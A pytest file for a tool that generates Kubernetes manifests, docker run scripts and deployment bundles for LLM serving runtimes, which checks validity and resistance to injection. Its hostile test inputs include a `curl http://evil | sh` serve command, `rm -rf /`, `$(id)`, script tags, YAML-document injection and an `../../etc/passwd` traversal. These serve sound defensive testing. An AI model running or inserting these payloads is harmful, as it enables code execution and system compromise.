"""Deployment artifacts (advisor/plan/manifests.py, advisor/plan/bundle.py): every Kubernetes manifest validates
against the Kubernetes JSON schemas (kubernetes-validate, strict, shipped with the package: no network), the
`docker run` lines parse as shell words and run the plan's own serve command, hostile endpoint names and plan
fields cannot break the YAML, the shell script or the README, and the bundle zip holds what its README lists."""

from __future__ import annotations

import copy
import functools
import io
import re
import shlex
import subprocess
import zipfile

import kubernetes_validate
import pytest
import yaml

from advisor import safeyaml
from advisor.errors import AdvisorInputError
from advisor.intake.request import Endpoint, Request
from advisor.knowledge import load_knowledge
from advisor.plan import bundle as bundle_module
from advisor.plan import document
from advisor.plan import manifests as m

K = load_knowledge()
KUBERNETES = "1.33"  # a recent release the package ships schemas for
DNS_1123_LABEL = re.compile(r"[a-z0-9]([-a-z0-9]*[a-z0-9])?")
DNS_1035_LABEL = re.compile(r"[a-z]([-a-z0-9]*[a-z0-9])?")  # Service names
LABEL_VALUE = re.compile(r"(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?")
QUALIFIED_KEY = re.compile(r"([a-z0-9]([-a-z0-9]*[a-z0-9])?(\.[a-z0-9]([-a-z0-9]*[a-z0-9])?)*/)?"
                           r"[A-Za-z0-9]([-A-Za-z0-9_.]*[A-Za-z0-9])?")
SMALL = "meta-llama/Llama-3.1-8B-Instruct"
HOSTILE = ('x"\n  injected: true\n---\nkind: Secret\n# `rm -rf /` **bold** <script>alert(1)</script> $(id) '
           "'; echo pwned #\u2028\x85 ünïcødé [link](http://e)")
HOSTILE_200 = (HOSTILE * 4)[:200]


def plan_of(**kwargs) -> dict:
    """A fresh copy (tests edit plans as an imported file could be edited)."""
    frozen = {k: tuple(tuple(sorted(e.items())) for e in v) if k == "endpoints" else v for k, v in kwargs.items()}
    return copy.deepcopy(_cached(tuple(sorted(frozen.items()))))


@functools.cache
def _cached(items: tuple) -> dict:
    kwargs = dict(items)
    if "endpoints" in kwargs:
        kwargs["endpoints"] = [Endpoint(**dict(e)) for e in kwargs["endpoints"]]
    return document.build(Request(**kwargs), K)


def validate_all(docs: list[dict]) -> None:
    for doc in docs:
        kubernetes_validate.validate(doc, KUBERNETES, strict=True)


def deployment_of(docs: list[dict]) -> dict:
    return next(d for d in docs if d["kind"] == "Deployment")


def container_of(docs: list[dict]) -> dict:
    return deployment_of(docs)["spec"]["template"]["spec"]["containers"][0]


def check_names_and_labels(docs: list[dict]) -> None:
    for doc in docs:
        name = doc["metadata"]["name"]
        assert len(name) <= 63 and DNS_1123_LABEL.fullmatch(name), name
        if doc["kind"] == "Service":
            assert DNS_1035_LABEL.fullmatch(name), name
        labels = dict(doc["metadata"].get("labels", {}))
        if doc["kind"] == "Deployment":
            labels.update(doc["spec"]["template"]["metadata"]["labels"])
        for key, value in labels.items():
            assert QUALIFIED_KEY.fullmatch(key) and len(key.split("/")[-1]) <= 63, key
            assert len(value) <= 63 and LABEL_VALUE.fullmatch(value), value
        for key in doc["metadata"].get("annotations", {}):
            assert QUALIFIED_KEY.fullmatch(key), key


def docker_words(line: str) -> list[str]:
    words = shlex.split(line)
    assert words[:2] == ["docker", "run"]
    return words


def after_image(words: list[str], image: str) -> list[str]:
    return words[words.index(image) + 1:]


def check_endpoint(plan: dict, endpoint: dict) -> tuple[m.Spec, list[dict]]:
    """Everything that holds for any deployable endpoint; returns its spec and manifests."""
    spec = m.deployment_spec(plan, endpoint)
    deployment, runtime = endpoint["deployment"], endpoint["runtime"]
    c = spec.container
    docs = m.kubernetes_manifests(plan, endpoint)
    validate_all(docs)
    check_names_and_labels(docs)
    text = m.dump_manifests(docs, m.header(plan, endpoint))
    assert list(yaml.safe_load_all(text)) == docs  # the YAML says exactly what the dicts say
    assert text.count("\n---\n") + text.startswith("---\n") == len(docs)
    assert all(line.startswith("#") for line in text.split("\n---\n")[0].splitlines())
    # Deployment: the plan's replicas, tensor-parallel GPUs per pod, probes on the runtime's health endpoint
    dep = deployment_of(docs)
    assert dep["spec"]["replicas"] == deployment["replicas"]
    pod = dep["spec"]["template"]["spec"]
    box = pod["containers"][0]
    gpu_key = "amd.com/gpu" if spec.amd else "nvidia.com/gpu"
    assert box["resources"]["limits"] == {gpu_key: str(deployment["tensor_parallel"])}
    for probe in ("startupProbe", "readinessProbe", "livenessProbe"):
        assert box[probe]["httpGet"] == {"path": "/health", "port": "http"}
    startup = box["startupProbe"]
    assert startup["periodSeconds"] * startup["failureThreshold"] >= 20 * 60  # weights take minutes to load
    assert box["ports"] == [{"name": "http", "containerPort": c.port, "protocol": "TCP"}]
    token = next(e for e in box["env"] if e["name"] == "HF_TOKEN")
    assert token["valueFrom"]["secretKeyRef"] == {"name": "hf-token", "key": "HF_TOKEN", "optional": True}
    shm = next(v for v in pod["volumes"] if v["name"] == "dshm")
    assert shm["emptyDir"]["medium"] == "Memory"
    assert {"name": "dshm", "mountPath": "/dev/shm"} in box["volumeMounts"]
    assert any(v["name"] == "model-cache" for v in pod["volumes"])
    assert box["image"] == spec.image
    if spec.pinned:  # the image tag is the plan's runtime version (or TGI's commit)
        tag = box["image"].rsplit(":", 1)[1]
        version = deployment["runtime_version"]
        assert version in tag or ("@" in version and version.split("@")[1][:7] in tag), (tag, version)
    # the container runs the plan's serve command (less what the image's ENTRYPOINT runs, less the
    # data-parallel flag that becomes pods), then the listen address: nothing recomputed
    plan_words = shlex.split(runtime["serve_command"])[len(c.entrypoint):]
    dp = m._data_parallel_flag(c.runtime)
    expected, _ = m._split_data_parallel(plan_words, dp)
    assert box["args"][: len(expected)] == [w.replace("$", "$$") for w in expected]  # Kubernetes' $ escape
    assert dp is None or dp not in box["args"]
    # Service: ClusterIP on the serving port, selecting the Deployment's pods
    service = next(d for d in docs if d["kind"] == "Service")
    assert service["spec"]["type"] == "ClusterIP"
    assert service["spec"]["ports"][0]["port"] == c.port and service["spec"]["ports"][0]["targetPort"] == "http"
    assert service["spec"]["selector"].items() <= dep["spec"]["template"]["metadata"]["labels"].items()
    if runtime.get("config_file"):
        config_map = next(d for d in docs if d["kind"] == "ConfigMap")
        assert config_map["data"] == {runtime["config_file"]: runtime["config"]}
    # docker: the plan's command as it is, after the pinned image
    for replica in range(spec.copies):
        words = docker_words(m.docker_run(plan, endpoint, replica=replica))
        assert spec.image in words
        assert after_image(words, spec.image)[: len(plan_words)] == plan_words
        assert words[words.index("-e", words.index("-p")) + 1] == "HF_TOKEN"  # passed from the environment
        assert f"{c.host_port + replica}:{c.port}" in words
        if spec.amd:
            assert "--gpus" not in words and "/dev/kfd" in words
        else:
            devices = words[words.index("--gpus") + 1]
            assert devices == f'"device={m._devices(spec, replica)}"'
            assert len(devices.split(",")) == spec.gpus_per_container
    script = m.docker_script(plan, endpoint)
    subprocess.run(["bash", "-n"], input=script, text=True, check=True)  # the script parses as bash
    return spec, docs


# ------------------------------------------------------------------------ every runtime the catalog has
@pytest.mark.parametrize("runtime", sorted(K.runtimes))
def test_every_catalog_runtime_has_manifests_or_a_reason(runtime):
    assert (runtime in m.CONTAINERS) != (runtime in m.NOT_CONTAINERIZED)
    plan = plan_of(model=SMALL, gpu="l4", runtime=runtime)
    endpoint = plan["endpoints"][0]
    assert endpoint["deployment"]["runtime"] == runtime
    if runtime in m.NOT_CONTAINERIZED:
        with pytest.raises(AdvisorInputError, match=f"no container manifests for {re.escape(runtime)}"):
            m.kubernetes_manifests(plan, endpoint)
        with pytest.raises(AdvisorInputError):
            m.docker_run(plan, endpoint)
        return
    spec, docs = check_endpoint(plan, endpoint)
    assert spec.container.runtime == runtime


def test_probe_and_port_per_runtime():
    """The health endpoint and port each runtime's own docs give (sources in CONTAINERS)."""
    expected = {"vllm": 8000, "sglang": 30000, "tensorrt-llm": 8000, "llama.cpp": 8080, "tgi": 80}
    assert {r: c.port for r, c in m.CONTAINERS.items()} == expected
    assert all(c.health == "/health" and c.sources for c in m.CONTAINERS.values())


def test_image_tags_follow_the_plan_version():
    plans = {r: plan_of(model=SMALL, gpu="l4", runtime=r)["endpoints"][0] for r in m.CONTAINERS}
    images = {r: m.deployment_spec(plan_of(model=SMALL, gpu="l4", runtime=r), e).image for r, e in plans.items()}
    assert images["vllm"] == f"vllm/vllm-openai:v{K.runtimes['vllm'].version}"
    assert images["sglang"] == f"lmsysorg/sglang:v{K.runtimes['sglang'].version}"
    assert images["tensorrt-llm"] == f"nvcr.io/nvidia/tensorrt-llm/release:{K.runtimes['tensorrt-llm'].version}"
    commit = re.search(r"@([0-9a-f]{7})", K.runtimes["tgi"].version)
    assert commit and images["tgi"] == f"ghcr.io/huggingface/text-generation-inference:sha-{commit.group(1)}"
    # llama.cpp's catalog version pins no build: the tag floats, and the plan says so
    spec = m.deployment_spec(plan_of(model=SMALL, gpu="l4", runtime="llama.cpp"), plans["llama.cpp"])
    assert spec.image == "ghcr.io/ggml-org/llama.cpp:server-cuda" and not spec.pinned
    assert any("floats" in n for n in spec.notes)
    docs = m.kubernetes_manifests(plan_of(model=SMALL, gpu="l4", runtime="llama.cpp"), plans["llama.cpp"])
    assert deployment_of(docs)["metadata"]["annotations"]["precision-advisor/image-pinned"] == "false"


def test_a_llama_cpp_build_number_pins_the_image():
    plan = plan_of(model=SMALL, gpu="l4", runtime="llama.cpp")
    plan["endpoints"][0]["deployment"]["runtime_version"] = "b6829"
    assert m.deployment_spec(plan, plan["endpoints"][0]).image == "ghcr.io/ggml-org/llama.cpp:server-cuda-b6829"


# ------------------------------------------------------------------------ layouts and GPUs
def test_tensor_parallel_70b_on_four_h100():
    plan = plan_of(model="meta-llama/Llama-3.1-70B-Instruct", gpu="h100-sxm", gpus=4)
    endpoint = plan["endpoints"][0]
    assert endpoint["deployment"]["tensor_parallel"] == 4
    spec, docs = check_endpoint(plan, endpoint)
    assert container_of(docs)["resources"]["limits"] == {"nvidia.com/gpu": "4"}
    words = docker_words(m.docker_run(plan, endpoint))
    assert words[words.index("--gpus") + 1] == '"device=0,1,2,3"'


@pytest.mark.parametrize("runtime", ["vllm", "tensorrt-llm", "tgi"])
def test_tensor_parallel_per_runtime(runtime):
    plan = plan_of(model="meta-llama/Llama-3.1-70B-Instruct", gpu="h100-sxm", gpus=4, runtime=runtime)
    endpoint = plan["endpoints"][0]
    spec, docs = check_endpoint(plan, endpoint)
    assert container_of(docs)["resources"]["limits"]["nvidia.com/gpu"] == str(spec.tensor_parallel)


@pytest.mark.parametrize(("gpu", "runtime"), [("mi300x", "vllm"), ("mi300x", "sglang"), ("mi300x", "llama.cpp"),
                                              ("mi300x", "tgi"), ("mi355x", "sglang")])
def test_amd_gpu(gpu, runtime):
    plan = plan_of(model=SMALL, gpu=gpu, runtime=runtime)
    endpoint = plan["endpoints"][0]
    spec, docs = check_endpoint(plan, endpoint)
    assert spec.amd and container_of(docs)["resources"]["limits"] == {"amd.com/gpu": "1"}
    pod = deployment_of(docs)["spec"]["template"]["spec"]
    assert pod["tolerations"][0]["key"] == "amd.com/gpu"
    assert "rocm" in spec.image
    if runtime == "sglang":
        assert spec.image.endswith("-mi35x" if gpu == "mi355x" else "-mi30x")
    words = docker_words(m.docker_run(plan, endpoint))
    assert words[words.index("-e", words.index("seccomp=unconfined")) + 1] == "HIP_VISIBLE_DEVICES=0"


def test_tensorrt_llm_is_refused_on_an_amd_gpu():
    plan = plan_of(model=SMALL, gpu="l4", runtime="tensorrt-llm")
    plan["hardware"]["gpu"] = "mi300x"
    with pytest.raises(AdvisorInputError, match="NVIDIA GPUs only"):
        m.kubernetes_manifests(plan, plan["endpoints"][0])


def test_data_parallel_replicas_become_pods():
    """vLLM's one-process data parallel runs as it is under Docker, and as one pod per replica under Kubernetes."""
    plan = plan_of(model=SMALL, gpu="l4", gpus=4, runtime="vllm", priority="cost",
                   endpoints=({"name": "batch", "workload": "batch-summarization", "concurrency": 256},))
    endpoint = plan["endpoints"][0]
    assert endpoint["deployment"]["replicas"] == 4
    assert "--data-parallel-size 4" in endpoint["runtime"]["serve_command"]
    spec, docs = check_endpoint(plan, endpoint)
    assert spec.copies == 1 and spec.gpus_per_container == 4
    assert deployment_of(docs)["spec"]["replicas"] == 4
    assert "--data-parallel-size" not in container_of(docs)["args"]
    assert "data-parallel" in " ".join(deployment_of(docs)["metadata"]["annotations"])
    words = docker_words(m.docker_run(plan, endpoint))
    assert words[words.index("--data-parallel-size") + 1] == "4"
    assert words[words.index("--gpus") + 1] == '"device=0,1,2,3"'


def test_runtime_without_data_parallel_gets_one_container_per_replica():
    plan = plan_of(model=SMALL, gpu="l4", gpus=4, runtime="tgi", priority="cost",
                   endpoints=({"name": "batch", "workload": "batch-summarization", "concurrency": 256},))
    endpoint = plan["endpoints"][0]
    spec, docs = check_endpoint(plan, endpoint)
    assert spec.copies == 4 == deployment_of(docs)["spec"]["replicas"]
    lines = [line for line in m.docker_script(plan, endpoint).splitlines() if line.startswith("docker run")]
    assert len(lines) == 4
    devices = [docker_words(line)[docker_words(line).index("--gpus") + 1] for line in lines]
    assert devices == [f'"device={i}"' for i in range(4)]
    assert [docker_words(line)[docker_words(line).index("-p") + 1] for line in lines] == \
        [f"{8080 + i}:80" for i in range(4)]
    with pytest.raises(AdvisorInputError, match="replica"):
        m.docker_run(plan, endpoint, replica=4)


def test_tensorrt_llm_config_file_is_a_configmap_and_a_docker_mount():
    plan = plan_of(model=SMALL, gpu="l4", runtime="tensorrt-llm")
    endpoint = plan["endpoints"][0]
    assert endpoint["runtime"]["config_file"] == "kv_cache.yaml"
    spec, docs = check_endpoint(plan, endpoint)
    mount = next(v for v in container_of(docs)["volumeMounts"] if v["name"] == "runtime-config")
    assert mount == {"name": "runtime-config", "mountPath": "/models/kv_cache.yaml", "subPath": "kv_cache.yaml",
                     "readOnly": True}
    assert '"$HERE/kv_cache.yaml:/models/kv_cache.yaml:ro"' in m.docker_script(plan, endpoint)
    assert '"/srv/cfg/kv_cache.yaml:/models/kv_cache.yaml:ro"' in m.docker_run(plan, endpoint, config_dir="/srv/cfg")
    with pytest.raises(AdvisorInputError, match="config_dir"):
        m.docker_run(plan, endpoint, config_dir='$(curl evil)"')


def test_options_secret_and_cache_claim():
    plan = plan_of(model=SMALL, gpu="l4")
    endpoint = plan["endpoints"][0]
    docs = m.kubernetes_manifests(plan, endpoint, hf_secret="my-hf", hf_secret_key="token", hf_token_optional=False,
                                  cache_claim="llama-cache")
    validate_all(docs)
    ref = next(e for e in container_of(docs)["env"] if e["name"] == "HF_TOKEN")["valueFrom"]["secretKeyRef"]
    assert ref == {"name": "my-hf", "key": "token", "optional": False}
    cache = next(v for v in deployment_of(docs)["spec"]["template"]["spec"]["volumes"] if v["name"] == "model-cache")
    assert cache == {"name": "model-cache", "persistentVolumeClaim": {"claimName": "llama-cache"}}
    for bad in ({"hf_secret": "Bad Name"}, {"cache_claim": "x\ny"}, {"hf_secret_key": "a/b"}):
        with pytest.raises(AdvisorInputError):
            m.kubernetes_manifests(plan, endpoint, **bad)


# ------------------------------------------------------------------------ refusals
def test_endpoint_without_a_pick_is_refused():
    plan = plan_of(model=SMALL, gpu="t4", runtime="tensorrt-llm")
    endpoint = plan["endpoints"][0]
    assert "deployment" not in endpoint
    for make in (m.kubernetes_manifests, m.docker_run, m.docker_script):
        with pytest.raises(AdvisorInputError, match="has no pick") as info:
            make(plan, endpoint)
        assert "\n" not in str(info.value)


def test_unknown_endpoint_name_is_refused():
    with pytest.raises(AdvisorInputError, match="not in the plan"):
        m.kubernetes_manifests(plan_of(model=SMALL, gpu="l4"), "nope")


def test_multi_node_endpoints_other_than_vllm_are_refused():
    plan = plan_of(model=SMALL, gpu="l4", runtime="sglang")
    plan["endpoints"][0]["deployment"]["pipeline_parallel"] = 2
    with pytest.raises(AdvisorInputError, match="several nodes"):
        m.kubernetes_manifests(plan, plan["endpoints"][0])


def _pod_of(template: dict) -> dict:
    """A LeaderWorkerSet's pod template as a Pod, so the Kubernetes schema checks it (the LWS CRD's own schema is
    not in kubernetes-validate)."""
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "labels": template["metadata"]["labels"]},
            "spec": template["spec"]}


def test_llama_405b_on_two_nodes_is_a_leader_worker_set():
    """vLLM over 2 x 8 H100 (tensor parallel 8 x pipeline parallel 2): a LeaderWorkerSet whose leader runs Ray's
    head and the server and whose worker joins it (vLLM docs/deployment/frameworks/lws.md); each pod 8 GPUs."""
    plan = plan_of(model="meta-llama/Llama-3.1-405B-Instruct", gpu="h100-sxm", gpus=8, nodes=2, priority="quality")
    ep = plan["endpoints"][0]
    assert ep["deployment"]["pipeline_parallel"] == 2 and ep["deployment"]["runtime"] == "vllm"
    docs = m.kubernetes_manifests(plan, ep)
    lws, service = docs
    assert (lws["apiVersion"], lws["kind"]) == ("leaderworkerset.x-k8s.io/v1", "LeaderWorkerSet")
    group = lws["spec"]["leaderWorkerTemplate"]
    assert group["size"] == 2 and group["restartPolicy"] == "RecreateGroupOnPodRestart"
    leader = group["leaderTemplate"]["spec"]["containers"][0]
    worker = group["workerTemplate"]["spec"]["containers"][0]
    for container in (leader, worker):
        assert container["resources"]["limits"]["nvidia.com/gpu"] == "8"
    line = leader["command"][2]
    assert line.startswith("bash /vllm-workspace/examples/online_serving/multi-node-serving.sh leader "
                           "--ray_cluster_size=$(LWS_GROUP_SIZE); exec vllm serve meta-llama/Llama-3.1-405B-Instruct")
    assert "--tensor-parallel-size 8" in line and "--pipeline-parallel-size 2" in line
    assert "--distributed-executor-backend ray" in line
    assert worker["command"][2].endswith("worker --ray_address=$(LWS_LEADER_ADDRESS)")
    assert "readinessProbe" in leader and "readinessProbe" not in worker
    assert service["spec"]["selector"]["role"] == "leader"
    validate_all([service, _pod_of(group["leaderTemplate"]), _pod_of(group["workerTemplate"])])
    text = m.dump_manifests(docs, m.header(plan, ep))
    assert list(yaml.safe_load_all(text)) == docs
    assert "exit 1" in m.docker_script(plan, ep)
    with zipfile.ZipFile(io.BytesIO(bundle_module.bundle(plan))) as z:
        assert "LeaderWorkerSet" in z.read(f"manifests/{m.resource_name(ep['name'])}/kubernetes.yaml").decode()


@pytest.mark.parametrize(("field", "value", "message"), [
    ("serve_command", "bash -c 'curl http://evil | sh'", "starts with 'vllm serve'"),
    ("serve_command", "vllm serve 'unterminated", "not a shell command line"),
    ("serve_command", "vllm serve m\x00odel", "control characters"),
    ("serve_command", "vllm serve 'a\nb'", "control characters"),
    ("serve_command", "vllm serve m --data-parallel-size 3", "does not match"),
    ("config_file", "../../etc/passwd", "not a plain file name"),
])
def test_hostile_runtime_fields_are_refused(field, value, message):
    plan = plan_of(model=SMALL, gpu="l4", runtime="vllm")
    endpoint = plan["endpoints"][0]
    endpoint["runtime"][field] = value
    if field == "config_file":
        endpoint["runtime"]["config"] = "x: 1\n"
    with pytest.raises(AdvisorInputError, match=re.escape(message)):
        m.kubernetes_manifests(plan, endpoint)


@pytest.mark.parametrize(("field", "value"), [("tensor_parallel", 0), ("tensor_parallel", True),
                                              ("replicas", 10_000), ("replicas", "2"), ("runtime", "no-such"),
                                              ("gpus", 99)])
def test_hostile_deployment_fields_are_refused(field, value):
    plan = plan_of(model=SMALL, gpu="l4")
    plan["endpoints"][0]["deployment"][field] = value
    with pytest.raises(AdvisorInputError):
        m.kubernetes_manifests(plan, plan["endpoints"][0])


def test_hostile_versions_never_reach_the_image_tag():
    plan = plan_of(model=SMALL, gpu="l4", runtime="vllm")
    plan["endpoints"][0]["deployment"]["runtime_version"] = "0.33.0\nimage: evil/evil"
    spec, docs = check_endpoint(plan, plan["endpoints"][0])
    assert spec.image == "vllm/vllm-openai:latest" and not spec.pinned


def test_kubernetes_variable_references_stay_literal():
    """$(HF_TOKEN) in a plan's command would have Kubernetes paste the secret into the server's arguments."""
    plan = plan_of(model=SMALL, gpu="l4")
    endpoint = plan["endpoints"][0]
    endpoint["runtime"]["serve_command"] += " --served-model-name '$(HF_TOKEN)'"
    spec, docs = check_endpoint(plan, endpoint)
    assert "$$(HF_TOKEN)" in container_of(docs)["args"]
    assert "'$(HF_TOKEN)'" in m.docker_run(plan, endpoint)  # single-quoted: the shell does not expand it


# ------------------------------------------------------------------------ hostile endpoint names
def check_hostile(plan: dict, name: str) -> None:
    endpoint = plan["endpoints"][0]
    spec, docs = check_endpoint(plan, endpoint)
    assert spec.name == m.resource_name(name) and len(spec.name) <= m.NAME_MAX
    text = m.dump_manifests(docs, m.header(plan, endpoint))
    loaded = list(yaml.safe_load_all(text))
    assert [d["kind"] for d in loaded] == ["Deployment", "Service"]  # no document or field injected
    assert set(loaded[0]) == {"apiVersion", "kind", "metadata", "spec"}
    assert loaded[0]["metadata"]["annotations"]["precision-advisor/endpoint"] == name
    script = m.docker_script(plan, endpoint)
    for line in script.splitlines():
        assert line.startswith(("#", "set -euo", "docker run", "echo 'started", "HERE=")), line
    assert "pwned" not in script and "<script>" not in script  # the name is not in the script at all


def test_hostile_endpoint_name_through_a_request():
    name = HOSTILE[:64]
    plan = plan_of(model=SMALL, gpu="l4", endpoints=({"name": name},))
    assert plan["endpoints"][0]["name"] == name
    check_hostile(plan, name)


def test_hostile_endpoint_name_of_200_characters_in_an_edited_plan():
    plan = plan_of(model=SMALL, gpu="l4")
    plan["endpoints"][0]["name"] = HOSTILE_200
    check_hostile(plan, HOSTILE_200)
    readme = zipfile.ZipFile(io.BytesIO(bundle_module.bundle(plan))).read("README.md").decode()
    assert "<script>" not in readme and "\u2028" not in readme and "\x85" not in readme
    assert not re.search(r"^\s*(kind:|injected|---|#\s*`rm)", readme, re.MULTILINE)


@pytest.mark.parametrize(("name", "expected"), [
    ("default", "default"), ("chat", "chat"), ("Chat", None), ("2-fast", None), ("", None), ("---", None),
    ("x" * 200, None), ("ünïcødé", None), ("a.b", None),
])
def test_resource_names(name, expected):
    out = m.resource_name(name)
    assert DNS_1035_LABEL.fullmatch(out) and len(out) <= m.NAME_MAX
    if expected:
        assert out == expected
    else:
        assert out != name and re.search(r"-[0-9a-f]{6}$", out)


def test_different_names_never_share_a_resource_name():
    names = ["Chat", "chat!", "CHAT", "chat ", "c-h-a-t", "chat", "x" * 100, "x" * 101]
    assert len({m.resource_name(n) for n in names}) == len(names)


# ------------------------------------------------------------------------ two endpoints, and the bundle
TWO = {"model": "meta-llama/Llama-3.1-70B-Instruct", "gpu": "h100-sxm", "gpus": 4,
       "endpoints": ({"name": "chat"}, {"name": "Batch jobs", "workload": "batch-summarization"})}


def test_two_endpoints():
    plan = plan_of(**TWO)
    specs = [check_endpoint(plan, e)[0] for e in plan["endpoints"]]
    assert len({s.name for s in specs}) == 2
    assert [m.deployment_spec(plan, s.endpoint).name for s in specs] == [s.name for s in specs]  # found by name
    assert [s.name for s in specs] == ["chat", m.resource_name("Batch jobs")]


def open_bundle(data: bytes) -> zipfile.ZipFile:
    archive = zipfile.ZipFile(io.BytesIO(data))
    assert archive.testzip() is None
    return archive


def test_bundle_has_the_listed_files_and_the_plan_loads_back():
    plan = plan_of(**TWO)
    data = bundle_module.bundle(plan)
    archive = open_bundle(data)
    names = {m.deployment_spec(plan, e).name: e for e in plan["endpoints"]}
    expected = {"plan.yaml", "README.md", "validate.sh", "results/"}
    for name, endpoint in names.items():
        expected |= {f"manifests/{name}/kubernetes.yaml", f"manifests/{name}/docker-run.sh"}
        if endpoint["runtime"].get("config_file"):
            expected.add(f"manifests/{name}/{endpoint['runtime']['config_file']}")
    assert set(archive.namelist()) == expected
    assert archive.getinfo("results/").is_dir()
    request = document.load(archive.read("plan.yaml"), K)
    assert request == Request.model_validate(plan["request"])
    readme = archive.read("README.md").decode()
    for path in expected - {"README.md"}:
        assert f"`{path}`" in readme, path
    assert "python -m advisor verify plan.yaml results/" in readme
    for name in names:
        text = archive.read(f"manifests/{name}/kubernetes.yaml").decode()
        validate_all(list(yaml.safe_load_all(text)))
        assert archive.getinfo(f"manifests/{name}/docker-run.sh").external_attr >> 16 & 0o111
    assert bundle_module.bundle(plan) == data  # deterministic
    assert all(info.date_time == bundle_module.EPOCH for info in archive.infolist())


def test_validate_script_is_the_text_given_or_a_failing_placeholder(tmp_path):
    plan = plan_of(model=SMALL, gpu="l4")
    given = "#!/usr/bin/env bash\necho checks\n"
    assert open_bundle(bundle_module.bundle(plan, given)).read("validate.sh").decode() == given
    placeholder = open_bundle(bundle_module.bundle(plan)).read("validate.sh").decode()
    script = tmp_path / "validate.sh"
    script.write_text(placeholder)
    run = subprocess.run(["bash", str(script)], capture_output=True, text=True)
    assert run.returncode == 1 and "not generated" in run.stderr
    with pytest.raises(AdvisorInputError, match="validate_sh"):
        bundle_module.bundle(plan, "x" * (bundle_module.MAX_VALIDATE_CHARS + 1))


def test_bundle_skips_endpoints_it_cannot_deploy_and_says_why():
    plan = plan_of(model=SMALL, gpu="t4", runtime="tensorrt-llm")
    archive = open_bundle(bundle_module.bundle(plan))
    assert not [n for n in archive.namelist() if n.startswith("manifests/")]
    assert "Not deployed from this bundle" in archive.read("README.md").decode()
    plan = plan_of(model=SMALL, gpu="l4", runtime="transformers")
    readme = open_bundle(bundle_module.bundle(plan)).read("README.md").decode()
    assert "library, not a server" in readme


def test_bundle_is_bounded_by_the_request_limit():
    plan = plan_of(model=SMALL, gpu="l4")
    limit = bundle_module.max_endpoints()
    assert limit == Request.model_fields["endpoints"].metadata[-1].max_length
    one = plan["endpoints"][0]
    plan["endpoints"] = [{**copy.deepcopy(one), "name": f"e{i}"} for i in range(limit + 1)]
    with pytest.raises(AdvisorInputError, match=f"at most {limit}"):
        bundle_module.bundle(plan)
    plan["endpoints"] = [copy.deepcopy(one), copy.deepcopy(one)]
    with pytest.raises(AdvisorInputError, match="both named"):
        bundle_module.bundle(plan)


def test_manifests_from_an_imported_plan_yaml():
    """A plan read back from its YAML gives the same artifacts as the plan it was dumped from."""
    plan = plan_of(**TWO)
    imported = safeyaml.load(document.dump(plan))
    for original, again in zip(plan["endpoints"], imported["endpoints"], strict=True):
        assert m.kubernetes_manifests(imported, again) == m.kubernetes_manifests(plan, original)
        assert m.docker_script(imported, again) == m.docker_script(plan, original)
    assert bundle_module.bundle(imported) == bundle_module.bundle(plan)
